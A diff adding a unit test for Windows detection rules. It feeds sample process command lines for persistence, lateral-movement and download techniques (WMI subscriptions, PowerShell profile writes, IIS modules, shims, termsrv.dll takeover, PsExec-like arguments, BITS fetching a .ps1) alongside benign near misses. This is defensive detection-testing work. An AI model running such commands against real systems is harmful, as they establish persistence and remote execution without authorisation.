@@ -631,6 +631,40 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(15, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe"'))).not.toContain(AUTO);
   });
 
+  it('WMI subscriptions, PowerShell profiles, IIS modules, Office add-ins, shims, termsrv.dll, web roots, PsExec-like arguments, BITS; near misses are not', () => {
+    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const S32 = 'C:\\Windows\\System32\\';
+    const WMI = 'WMI Event Subscription Created From A Command Line';
+    expect(hits([proc(1, PS, "powershell.exe & {$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments $fa; $c = Set-WmiInstance -Class CommandLineEventConsumer -Arguments $ca}")]).get(WMI)).toEqual({ level: 'high', tactics: ['persistence', 'privilege-escalation'] });
+    expect(titlesOf(proc(2, PS, 'powershell.exe -c Get-WmiObject -Namespace root\\subscription -Class __EventFilter'))).not.toContain(WMI);
+    const PROF = 'PowerShell Profile Written From A Command Line';
+    expect(hits([proc(3, PS, 'powershell.exe & {Add-Content $profile -Value "Start-Process calc.exe"}')]).get(PROF)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
+    expect(titlesOf(proc(4, PS, 'powershell.exe -c Test-Path $profile'))).not.toContain(PROF);
+    const IISM = 'IIS Native Module Installed From A Command Line';
+    expect(hits([proc(5, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe install module /name:M /image:C:\\Windows\\Temp\\m.dll')]).get(IISM)).toEqual({ level: 'medium', tactics: ['persistence'] });
+    expect(titlesOf(proc(6, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe list modules'))).not.toContain(IISM);
+    const ADDIN = 'Office Add-In Put In A Start-Up Folder Or Registered From A Command Line';
+    expect(hits([proc(7, PS, 'powershell.exe & {Copy C:\\Temp\\a.xlam "$env:APPDATA\\Microsoft\\Excel\\XLSTART\\a.xlam"; Start-Process Excel}')]).get(ADDIN)).toEqual({ level: 'low', tactics: ['persistence'] });
+    expect(titlesOf(proc(8, PS, 'powershell.exe & {Copy C:\\Temp\\book.xlsx "$env:APPDATA\\Microsoft\\Excel\\XLSTART\\book.xlsx"}'))).not.toContain(ADDIN);
+    const SHIM = 'Shim Database Put In The Custom Shim Folder From A Command Line';
+    expect(hits([proc(9, PS, 'powershell.exe & {Copy-Item C:\\Temp\\x.sdb C:\\Windows\\apppatch\\Custom\\x.sdb}')]).get(SHIM)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
+    expect(titlesOf(proc(10, `${S32}cmd.exe`, 'cmd /c dir C:\\Windows\\apppatch\\Custom'))).not.toContain(SHIM);
+    const TERM = 'Terminal Services DLL Taken Over Or Replaced From A Command Line';
+    expect(hits([proc(11, `${S32}takeown.exe`, 'takeown /f C:\\Windows\\System32\\termsrv.dll')]).get(TERM)).toEqual({ level: 'medium', tactics: ['persistence'] });
+    expect(titlesOf(proc(12, PS, 'powershell.exe -c Get-Item C:\\Windows\\System32\\termsrv.dll | Select VersionInfo'))).not.toContain(TERM);
+    const WEB = 'Files Copied Into The IIS Web Root From A Command Line';
+    expect(hits([proc(13, `${S32}xcopy.exe`, 'xcopy  /I /Y "C:\\Users\\u\\src" C:\\inetpub\\wwwroot')]).get(WEB)).toEqual({ level: 'low', tactics: ['persistence'] });
+    expect(titlesOf(proc(14, `${S32}cmd.exe`, 'cmd /c dir C:\\inetpub\\wwwroot'))).not.toContain(WEB);
+    const REM = 'Remote Command Execution Tool Arguments (PsExec-Like)';
+    expect(hits([proc(15, 'C:\\Tools\\r.exe', 'C:\\Tools\\r.exe  \\\\srv2 /user:Administrator /pwd:secret cmd.exe')]).get(REM)).toEqual({ level: 'low', tactics: ['execution', 'lateral-movement'] });
+    expect(titlesOf(proc(16, 'C:\\Tools\\p.exe', 'C:\\Tools\\p.exe \\\\srv2 -accepteula cmd /c ipconfig'))).toContain(REM);
+    expect(titlesOf(proc(17, `${S32}net.exe`, 'net use \\\\srv2\\c$ /user:CORP\\admin secret'))).not.toContain(REM);
+    expect(titlesOf(proc(18, `${S32}cmd.exe`, 'cmd /c dir \\\\srv2\\share'))).not.toContain(REM);
+    const BITS = 'BITS Transfer Started From PowerShell Or desktopimgdownldr';
+    expect(hits([proc(19, PS, 'powershell.exe & {Start-BitsTransfer -Source https://example.org/a -Destination $env:TEMP\\a.ps1}')]).get(BITS)).toEqual({ level: 'low', tactics: ['persistence', 'stealth'] });
+    expect(titlesOf(proc(20, PS, 'powershell.exe -c Get-BitsTransfer -AllUsers'))).not.toContain(BITS);
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
